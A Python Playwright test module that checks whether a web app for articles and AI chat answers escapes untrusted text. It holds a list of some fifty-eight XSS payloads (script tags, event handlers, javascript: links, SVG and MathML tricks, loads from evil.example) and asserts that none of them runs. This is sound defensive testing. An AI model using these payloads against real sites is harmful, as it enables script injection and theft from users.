"""Markup wherever text comes from elsewhere: title, author, body, site, address, file name, question, what a
model writes. In Chromium nothing of it runs, and nothing is asked of elsewhere.

Once without the policy, so that what is seen to hold is the escaping alone; and once with it.
"""

import json
import re
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import date

import pytest
from playwright.sync_api import BrowserContext, Page, Request, expect

from index import Article
from index.failed import Failed
from qa import Answer
from tests.ui.conftest import serving
from tests.ui.scripted import ScriptedAssistant, quoted
from ui.app import assemble
from ui.conversations import Conversations
from ui.library import Library
from ui.render import address
from ui.store import Store
from ui.works import Works

pytestmark = [pytest.mark.browser, pytest.mark.slow]

EVIL = "//evil.example/x"
RUN = "window.ran=(window.ran||0)+1"

PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<script src={EVIL}.js></script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"＜script＞{RUN}＜/script＞",
    f"<img src=x onerror='{RUN}'>",
    f"<img src={EVIL}.png>",
    f"<img/src=x/onerror={RUN}>",
    f"<img srcset='{EVIL}.png 1x' onload='{RUN}'>",
    f"<image href={EVIL} onerror='{RUN}'>",
    f"<svg onload='{RUN}'>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>'/></svg>",
    f"<math><mtext><style><img src=x onerror='{RUN}'></style></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<body onload='{RUN}'>",
    f"<details open ontoggle='{RUN}'>",
    f"<input autofocus onfocus='{RUN}'>",
    f"<video><source onerror='{RUN}'></video>",
    f"<video poster={EVIL}.png src={EVIL}.mp4 autoplay>",
    f"<audio src={EVIL}.mp3 onerror='{RUN}' autoplay>",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={EVIL}></object>",
    f"<embed src={EVIL}>",
    f"<link rel=stylesheet href={EVIL}.css>",
    f"<style>@import '{EVIL}.css'; *{{background:url({EVIL}.png)}}</style>",
    f"<b style='background:url({EVIL}.png)'>x</b>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}>",
    f"<form action={EVIL}><button autofocus>x</button></form>",
    f'<a href="javascript:{RUN}" id=x>click</a>',
    f"<table background={EVIL}.png><tr><td>x</table>",
    f"<input type=image src={EVIL}.png>",
    f"![i](http:{EVIL}.png)",
    f"![i][r]\n\n[r]: http:{EVIL}.png",
    f"[click](javascript:{RUN})",
    f"[click](data:text/html,<script>{RUN}</script>)",
    f"[1](javascript:{RUN})",
    f"<javascript:{RUN}>",
    f"`<img src=x onerror='{RUN}'>`",
    f"```html\n<img src=x onerror='{RUN}'>\n```",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"<x onpointerenter='{RUN}' style='position:fixed;inset:0'>x</x>",
    f"<template><script>{RUN}</script></template><slot onslotchange='{RUN}'>",
]


def article(number: int, payload: str) -> Article:
    """One that says so everywhere; what a source is called has no line breaks."""
    return Article(
        id=f"{number} {payload}",
        title=payload,
        text=f"Before.\n\n{payload}\n\nAfter.",
        source=f"/added/{payload}.md",
        url=f"https://good.example/{payload}" if number % 2 else f"javascript:{RUN}//{payload}",
        authors=(payload,),
        published=date(2025, 3, 14),
        site=payload,
        language=payload,
    )


ARTICLES = [article(number, payload) for number, payload in enumerate(PAYLOADS)]
CITED = [quoted(each, payload, 1) for each, payload in zip(ARTICLES, PAYLOADS, strict=True)]


@dataclass
class Watch:
    """What a page did that it must not."""

    site: str
    elsewhere: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def over(self, page: Page) -> None:
        page.on("request", self._requested)
        page.on("dialog", lambda dialog: self.errors.append(dialog.message))
        page.on("pageerror", lambda error: self.errors.append(str(error)))

    def _requested(self, request: Request) -> None:
        if not request.url.startswith((self.site, "data:", "blob:")):
            self.elsewhere.append(request.url)

    def nothing_happened(self, page: Page) -> None:
        page.wait_for_timeout(300)  # what is loaded, or runs, a moment later
        assert page.evaluate("window.ran") is None
        assert self.elsewhere == [] and self.errors == []
        assert page.url.startswith(self.site)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A site whose conversations, articles and failed sources all are hostile."""
    home = tmp_path_factory.mktemp("hostile")
    store = Store.open(home)
    conversations = Conversations(store)
    for payload, citation in zip(PAYLOADS, CITED, strict=True):
        for id in ("all", f"of-{citation.article_id[:2].strip()}"):
            conversation = conversations.get("", id)
            exchange = conversation.ask(payload)
            exchange.finish(Answer(payload, f"{payload} [1]", citations=(citation,), notes=(payload,)))
            conversation.save(exchange)
    store.close()
    failed = [
        Failed(f"/articles/{payload}.pdf", payload, "2025-03-14T10:00:00+00:00", ("/articles",))
        for payload in PAYLOADS
    ]
    rows = [
        {"source": each.source, "reason": each.reason, "at": each.at, "roots": each.roots} for each in failed
    ]
    (home / "failures.json").write_text(json.dumps(rows), encoding="utf-8")
    assistant = ScriptedAssistant(ARTICLES, {})
    with serving(assemble(Library(lambda: assistant), home, Works(home))) as url:  # type: ignore[arg-type, return-value]
        yield url


def test_there_are_forty_payloads_and_more() -> None:
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("policy", ["without the policy", "with the policy"])
def test_nothing_runs_and_nothing_is_loaded_from_elsewhere(
    new_context: Callable[..., BrowserContext], hostile: str, policy: str
) -> None:
    context = new_context(bypass_csp=policy == "without the policy", extra_http_headers={})
    context.set_default_timeout(60_000)
    page, watch = context.new_page(), Watch(hostile)
    watch.over(page)

    # the chat: questions, answers, notes, sources, and the titles of conversations
    page.goto(f"{hostile}?c=all")
    expect(page.get_by_test_id("user")).to_have_count(len(PAYLOADS), timeout=60_000)
    for number in (0, 15, 20, 45):
        expect(page.get_by_test_id("bot").nth(number)).to_contain_text(PAYLOADS[number].split("\n")[0])
    chat = page.locator("#chat").get_by_test_id(re.compile("bot|user"))
    assert (
        chat.locator("script, img, svg, iframe, object, embed, video, audio, form, style, meta, base").count()
        == 0
    )
    links = [link.get_attribute("href") or "" for link in chat.locator("a").all()]
    assert len(links) >= len(PAYLOADS) and all(link.startswith("article?") for link in links)
    expect(page.get_by_role("navigation", name="Conversations").get_by_role("link")).to_have_count(
        len(PAYLOADS) + 1
    )
    watch.nothing_happened(page)

    # the article beside the chat, and its preview
    inserted = """async (paths) => {
        for (const path of paths) {
            const content = await (await fetch(path)).text();
            const place = document.createElement("div");
            document.body.append(place);
            place.innerHTML = content;
        }
    }"""
    places = [address(citation).removesuffix("#quote") for citation in CITED]
    page.evaluate(inserted, [f"{place}&{part}=1" for place in places for part in ("pane", "preview")])
    watch.nothing_happened(page)
    page.locator("#chat").get_by_role("link").first.click()
    expect(page.locator("#article-pane mark").first).to_be_visible()
    watch.nothing_happened(page)

    # pages of their own
    page.goto(f"{hostile}library?status=failed")
    expect(page.locator("#holdings")).to_contain_text(PAYLOADS[0])
    watch.nothing_happened(page)
    page.goto(f"{hostile}library?match=%22%3E%3Cscript%3Ewindow.ran=1%3C/script%3E&site=%3Cb%3E")
    watch.nothing_happened(page)
    page.goto(f"{hostile}library?sort=title")
    expect(page.locator("#holdings")).to_contain_text(PAYLOADS[0])
    assert page.locator("#holdings :is(script, img, iframe, object, embed, video, form form)").count() == 0
    watch.nothing_happened(page)
    for place in places[:: 1 if policy == "without the policy" else 6]:
        page.goto(hostile + place)
        assert page.evaluate("window.ran") is None
        assert (
            page.locator("article :is(script, img, svg, iframe, object, embed, video, style, form)").count()
            == 0
        )
    live = page.locator("article a")
    assert all((link.get_attribute("href") or "").startswith("https://good.example/") for link in live.all())
    watch.nothing_happened(page)


def test_the_canary_sings_where_markup_is_let_through(
    new_context: Callable[..., BrowserContext], hostile: str
) -> None:
    page, watch = new_context(bypass_csp=True).new_page(), Watch(hostile)
    watch.over(page)
    page.goto(f"{hostile}library")
    page.evaluate("(markup) => { document.body.innerHTML = markup; }", "".join(PAYLOADS[15:17]))
    page.wait_for_timeout(500)
    assert page.evaluate("window.ran") and any("evil.example" in url for url in watch.elsewhere)


def test_what_is_taken_away_is_a_file_and_no_page(hostile: str) -> None:
    for kind, media in (("md", "text/markdown; charset=utf-8"), ("json", "application/json")):
        with urllib.request.urlopen(f"{hostile}conversations/all/export?format={kind}") as response:
            assert response.headers["content-disposition"].startswith("attachment")
            assert response.headers["content-type"] == media
            assert response.headers["x-content-type-options"] == "nosniff"
